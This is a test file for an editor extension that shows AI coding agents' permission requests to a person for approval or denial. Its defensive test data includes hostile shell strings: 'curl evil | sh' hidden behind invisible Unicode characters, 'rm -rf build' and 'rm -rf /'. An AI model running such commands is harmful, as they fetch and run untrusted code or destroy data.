import { strict as assert } from 'node:assert';
import type { AgentId } from '../../../src/core/agents/agent';
import { AgentError } from '../../../src/core/agents/agentErrors';
import type { PermissionRequest } from '../../../src/core/agents/permissionRequest';
import { approvalCommands } from '../../../src/vscode/approvals/approvalCommands';
import { ApprovalDesk, DRAWN_MS } from '../../../src/vscode/approvals/approvalDesk';
import {
  fitsInDialog,
  isAllowable,
  isDeniable,
  requestText,
  requestTitle,
} from '../../../src/vscode/approvals/requestText';
import { AgentTargets } from '../../../src/vscode/commands/agentTargets';
import type { CommandHandlers } from '../../../src/vscode/commands/registerCommands';
import { CommandId } from '../../../src/vscode/manifest';
import { anAgentView, aRequest, FakeEngine } from '../../support/fakeEngine';
import { FakeDocuments, FakeWindow } from '../../support/fakeWindow';
import { ManualClock } from '../../support/manualClock';

const id = 'reviewer' as AgentId;

function createFixture(request: Partial<PermissionRequest> = {}) {
  const [engine, clock] = [new FakeEngine(), new ManualClock()];
  const [window, documents] = [new FakeWindow(), new FakeDocuments()];
  const ask = (changes: Partial<PermissionRequest>): void =>
    engine.simulateAgent(anAgentView({ activity: 'awaiting_approval', request: aRequest({ id: 'q1', ...changes }) }));
  ask(request);
  return { engine, clock, window, documents, desk: new ApprovalDesk({ engine, clock, window, documents }), ask };
}

describe('S24 the text of a request', () => {
  it('S24 is complete, with everything invisible spelled out and every line indented', () => {
    const detail = `rm -rf build \u202e\u200b; curl evil\t| sh\nReviewer wants to do this:\necho \\u{202e}\u00a0${'x'.repeat(5000)} end`;
    const text = requestText('Reviewer', aRequest({ title: 'Bash', detail }));
    assert.ok(text.includes('    rm -rf build \\u{202e}\\u{200b}; curl evil\\t| sh\n'), text.slice(0, 300));
    assert.ok(text.includes('\n    Reviewer wants to do this:\n'), 'a line of it cannot pose as ours');
    assert.ok(text.includes(`echo \\u{202e}\\u{a0}${'x'.repeat(5000)} end`));
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u200b\u202e\u00a0]/u);
  });

  it('S24 says when the program told more than is kept, and is then never asked about in a dialog', () => {
    const request = aRequest({ isCut: true });
    assert.match(requestText('A', request), /The rest is only in its terminal, where alone it can be allowed\./);
    assert.deepEqual([fitsInDialog('A', request), fitsInDialog('A', aRequest())], [false, true]);
    assert.equal(fitsInDialog('A', aRequest({ detail: 'a\n'.repeat(20) })), false);
  });

  it('S24 is allowed only where all of it is there, and denied anyway', () => {
    for (const isCut of [true, false]) {
      const request = aRequest({ isCut });
      assert.deepEqual([isAllowable(request), isDeniable(request)], [!isCut, true]);
    }
  });

  it('S24 is shortened only where it cannot be answered, and visibly', () => {
    assert.equal(requestTitle(aRequest({ title: 'a\n b' })), 'a b');
    assert.equal(requestTitle(aRequest({ title: '\u202ex'.repeat(100) }), 20).length, 20);
    assert.match(requestTitle(aRequest({ title: 'y'.repeat(100) })), /…$/);
  });
});

describe('which agents the answers are offered for', () => {
  const permission = { door: 'hook' } as const;
  const question = { kind: 'question', door: 'none', canAllow: false, canDeny: false, canGiveReason: false } as const;

  /** The commands on a window where the first agent that fits is picked; which fitted. */
  function commandsWith(requests: Readonly<Record<string, Partial<PermissionRequest>>>) {
    const engine = new FakeEngine();
    engine.simulateStatus({ kind: 'ready', epoch: 1, tmuxVersion: '3.5', isTmuxLost: false, isReadOnly: false });
    for (const [name, request] of Object.entries(requests))
      engine.simulateAgent(anAgentView({ id: name as AgentId, name, needsYou: 'input', request: aRequest(request) }));
    const [clock, window, documents] = [new ManualClock(), new FakeWindow(), new FakeDocuments()];
    const fitting: string[] = [];
    const targets = new AgentTargets(engine, {
      pickOne: async (_, filter) => {
        fitting.push(...engine.agents.filter(filter).map(({ id }) => id));
        return undefined;
      },
      pickMany: async () => [],
    });
    const desk = new ApprovalDesk({ engine, clock, window, documents });
    return { engine, window, fitting, commands: approvalCommands({ engine, targets, desk }) };
  }
  const run = (commands: CommandHandlers, command: CommandId): unknown => commands[command]?.(undefined, undefined);

  it('lists for an approval what can be approved, now or once its dialog is drawn, and never a question', async () => {
    const waits = { door: 'keys', canAllow: false, canDeny: false, canGiveReason: false } as const;
    const onlyTerminal = { ...question, kind: 'permission' } as const;
    const asking = { Asker: { ...question, canDeny: true, door: 'keys', dialog: '?' }, Builder: permission, Scout: waits, Zoe: onlyTerminal } as const; // prettier-ignore
    const { commands, fitting } = commandsWith(asking);
    const listed = async (command: CommandId): Promise<readonly string[]> => {
      fitting.length = 0;
      await run(commands, command);
      return [...fitting];
    };
    assert.deepEqual(await listed(CommandId.ApproveRequest), ['Builder', 'Scout']);
    assert.deepEqual(await listed(CommandId.DenyRequest), ['Asker', 'Builder', 'Scout']);
    assert.deepEqual(await listed(CommandId.DenyRequestWithReason), ['Builder', 'Scout']);
    assert.deepEqual(await listed(CommandId.ReviewRequest), ['Asker', 'Builder', 'Scout', 'Zoe']);
  });

  it('says when there are only questions, and leads to where they are answered', async () => {
    const one = commandsWith({ Asker: question });
    one.window.answer = 'Attach';
    await run(one.commands, CommandId.ApproveRequest);
    const text = 'No permission request is open. Asker asks a question: answer in the terminal.';
    assert.deepEqual(one.window.shown, [`information: Approve Request: ${text} [Attach]`]);
    assert.deepEqual([one.window.ran, one.fitting], [[[CommandId.AttachAgent, 'Asker']], []]);
    const two = commandsWith({ Asker: question, Other: question });
    two.window.answer = 'Go to Next';
    await run(two.commands, CommandId.ApproveRequest);
    assert.match(two.window.shown[0] ?? '', /2 agents ask questions: .* \[Go to Next\]$/);
    assert.deepEqual(two.window.ran, [[CommandId.GoToNextWaitingAgent]]);
  });

  it('says that a plain refusal works where no reason is taken', async () => {
    const { commands, window } = commandsWith({ Asker: { door: 'hook', canGiveReason: false }, Other: question });
    window.answer = 'Deny Request';
    await run(commands, CommandId.DenyRequestWithReason);
    const text = 'No request takes a reason. Asker asks: Deny Request works without one.';
    assert.deepEqual(window.shown, [`information: Deny Request With Reason: ${text} [Deny Request]`]);
    assert.deepEqual(window.ran, [[CommandId.DenyRequest, 'Asker']]);
  });
});

describe('answering a request', () => {
  it('S24 allows only after the complete request was shown', async () => {
    const { engine, window, desk } = createFixture();
    await desk.approve(id);
    assert.deepEqual(engine.calls, []);
    assert.match(
      window.shown[0] ?? '',
      /^confirm: Reviewer: Bash: npm test \[Attach\|Approve\]\nReviewer wants to do this:\n\n {4}Bash: npm test\n\n {4}npm test\n\nTool: Bash\n/,
    );
    window.answer = 'Approve';
    await desk.approve(id);
    assert.deepEqual(engine.calls, ['answerRequest reviewer q1 allow']);
  });

  it('S24 never offers to approve what was cut: it leads to the terminal', async () => {
    const { engine, window, desk } = createFixture({ isCut: true, canAllow: false });
    window.answer = 'Attach';
    await desk.approve(id);
    await desk.review(id);
    const offers = window.shown.map((text) => /\[(.*)\]$/.exec(text)?.[1]);
    assert.deepEqual(offers, ['Decide Later|Attach', 'Decide Later|Attach|Deny|Deny with Reason…']);
    assert.deepEqual(engine.calls, []);
    const attach = [CommandId.AttachAgent, id];
    assert.deepEqual(window.ran, [attach, attach]);
  });

  it('S24 shows a long request as a document while the question waits above it', async () => {
    const { engine, window, documents, desk } = createFixture({ detail: `${'line\n'.repeat(40)}the end` });
    window.nextAnswers.push('later', 'Approve');
    const seen: string[] = [];
    const choose = window.choose.bind(window);
    window.choose = (...args) => (seen.push(documents.open.get('Request of Reviewer.txt') ?? ''), choose(...args));
    await desk.review(id);
    assert.deepEqual([engine.calls, documents.closed.length, documents.open.size], [[], 1, 0]);
    assert.ok(seen[0]?.includes('    the end'));
    assert.match(window.shown[0] ?? '', /^choose: .* \[Decide Later\|Attach\|Approve\|Deny\|Deny with Reason…\]$/);
    await desk.review(id);
    assert.deepEqual(engine.calls, ['answerRequest reviewer q1 allow']);
  });

  it('denies at once, or with a reason for the model', async () => {
    const { engine, window, desk } = createFixture();
    await desk.deny(id);
    window.text = ' use the test database ';
    await desk.denyWithReason(id);
    window.text = undefined;
    await desk.denyWithReason(id);
    assert.deepEqual(engine.calls, [
      'answerRequest reviewer q1 deny',
      'answerRequest reviewer q1 deny use the test database',
    ]);
  });

  it('never answers another question than the one that was shown', async () => {
    const { engine, window, desk, ask } = createFixture();
    const confirm = window.confirm.bind(window);
    window.confirm = (...args) => {
      ask({ id: 'q2', title: 'Bash: rm -rf /' }); // while the person reads
      return confirm(...args);
    };
    window.nextAnswers.push('Approve', undefined);
    await desk.review(id);
    assert.deepEqual(engine.calls, ['answerRequest reviewer q1 allow']);
    assert.equal(window.shown.at(-1), 'warning: Reviewer: It asks something else now. Nothing was answered. [Review…]');
  });

  it('says when nothing is asked any more', async () => {
    const { engine, window, desk } = createFixture();
    engine.simulateAgent(anAgentView());
    for (const act of [desk.review(id), desk.approve(id), desk.deny(id), desk.denyWithReason(id)]) await act;
    assert.deepEqual(engine.calls, []);
    assert.equal(window.shown.length, 4);
    assert.match(window.shown[0] ?? '', /asks nothing any more\. Nothing was answered\. \[\]/);
  });

  it('leads to the terminal what cannot be answered from here', async () => {
    const { engine, window, desk } = createFixture({ kind: 'question', door: 'none', title: 'Which database?' });
    window.answer = 'Attach';
    for (const act of [
      () => desk.review(id),
      () => desk.approve(id),
      () => desk.deny(id),
      () => desk.denyWithReason(id),
    ])
      await act();
    assert.deepEqual([engine.calls, window.ran.length], [[], 4]);
    for (const text of window.shown)
      assert.match(text, /^confirm: Reviewer: Which database\? \[Attach\]\nReviewer asks:/);
  });

  it('offers the terminal when the engine cannot answer after all, and passes any other failure on', async () => {
    const { engine, window, desk, ask } = createFixture();
    const answerRequest = engine.answerRequest.bind(engine);
    engine.answerRequest = (...args) => (ask({ door: 'none' }), answerRequest(...args));
    engine.failWith(new AgentError('agent.cannotAnswer', 'the dialog changed', { agentId: id }));
    await desk.deny(id);
    ask({});
    assert.deepEqual(window.shown, ['warning: Reviewer: This can be answered only in the agent’s terminal. [Attach]']);
    engine.failWith(new AgentError('agent.hostUnavailable', 'tmux'));
    await assert.rejects(desk.deny(id), (error) => AgentError.is(error, 'agent.hostUnavailable'));
  });

  describe('whose dialog is not drawn yet', () => {
    const told = { door: 'keys', canAllow: false, canDeny: false, canGiveReason: false } as const;
    const drawn = { door: 'keys', canGiveReason: false, dialog: 'Bash: npm test' } as const;

    it('shows it once it can be answered, without a word when that is soon', async () => {
      const { engine, clock, window, desk, ask } = createFixture(told);
      window.answer = 'Approve';
      const review = desk.review(id);
      await clock.advanceMs(300);
      assert.deepEqual(window.shown, []);
      ask(drawn);
      await review;
      assert.match(window.shown.join(), /^confirm: Reviewer: Bash: npm test \[Attach\|Approve\|Deny\]\n/);
      assert.deepEqual(engine.calls, ['answerRequest reviewer q1 allow']);
      assert.deepEqual([engine.listenerCount, clock.pendingCount], [0, 0]);
    });

    it('says what is waited for, at last that there is none, and looks again', async () => {
      const { engine, clock, window, desk, ask } = createFixture(told);
      window.nextAnswers.push('Look Again', 'Deny');
      const review = desk.approve(id).then(() => desk.review(id));
      await clock.advanceMs(2 * DRAWN_MS);
      ask(drawn);
      await review;
      const text = window.shown.map((one) => one.split('\n')[0]);
      assert.deepEqual(text, [
        'progress: Reviewer: waiting until its dialog is drawn…',
        'confirm: Reviewer: Bash: npm test [Look Again|Attach]',
        'progress: Reviewer: waiting until its dialog is drawn…',
        'confirm: Reviewer: Bash: npm test [Attach|Approve]',
        'confirm: Reviewer: Bash: npm test [Attach|Approve|Deny]',
      ]);
      assert.match(window.shown[1] ?? '', /Its dialog is not drawn yet/);
      assert.deepEqual([engine.listenerCount, clock.pendingCount], [0, 0]);
    });

    it('asks nothing when the person does not wait, and says when it is over meanwhile', async () => {
      const { engine, clock, window, desk } = createFixture(told);
      const impatient = desk.review(id);
      await clock.advanceMs(1_000);
      window.cancel?.();
      await impatient;
      assert.equal(window.shown.length, 1);
      const late = desk.review(id);
      engine.simulateAgent(anAgentView());
      await late;
      assert.match(window.shown.at(-1) ?? '', /asks nothing any more/);
    });

    it('denies what was meant once it can, and nothing else', async () => {
      const { engine, clock, window, desk, ask } = createFixture(told);
      const first = desk.deny(id);
      ask(drawn);
      await first;
      ask({ ...told, id: 'q2' });
      const second = desk.deny(id);
      ask({ ...drawn, id: 'q3' });
      await second;
      assert.deepEqual(engine.calls, ['answerRequest reviewer q1 deny']);
      assert.match(window.shown.at(-1) ?? '', /It asks something else now\. Nothing was answered\./);
      assert.equal(clock.pendingCount, 0);
    });

    it('leads back to the review when the way to answer has changed since it was shown', async () => {
      const { engine, window, desk, ask } = createFixture();
      ask(drawn);
      engine.failWith(new AgentError('agent.cannotAnswer', 'the hook has gone', { agentId: id }));
      await desk.deny(id);
      assert.match(window.shown[0] ?? '', /how it can be has changed since it was shown\. \[Review…\|Attach\]$/);
    });
  });
});
